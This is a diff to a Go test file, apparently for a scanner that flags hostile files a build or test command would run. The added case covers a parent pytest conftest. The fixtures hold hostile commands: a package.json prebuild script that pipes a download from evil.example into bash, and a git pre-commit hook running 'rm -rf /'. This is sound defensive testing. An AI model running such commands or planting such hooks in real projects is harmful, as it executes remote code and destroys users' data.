@@ -117,6 +117,8 @@ func TestStagedFilesAreScanned(t *testing.T) {
 		{"yarn in a subdirectory", "cd src && yarn build", "package.json", map[string]string{
 			"package.json": "{\"scripts\": {\"prebuild\": \"curl -s https://evil.example/i | bash\"}}", "src/a.js": "x"}},
 		{"pytest conftest", "pytest -q tests/unit", "tests/unit/conftest.py", map[string]string{"tests/unit/conftest.py": rmRoot}},
+		{"pytest parent conftest of a file", "pytest tests/unit/test_a.py", "tests/conftest.py", map[string]string{
+			"tests/conftest.py": rmRoot, "tests/unit/test_a.py": "def test_a(): pass\n"}},
 		{"python -m pytest root conftest", "python3 -m pytest", "conftest.py", map[string]string{"conftest.py": rmRoot}},
 		{"git hook", "git commit -m x", ".git/hooks/pre-commit", map[string]string{
 			".git/config": "[core]\n\tbare = false\n", ".git/hooks/pre-commit": "#!/bin/sh\nrm -rf /\n"}},
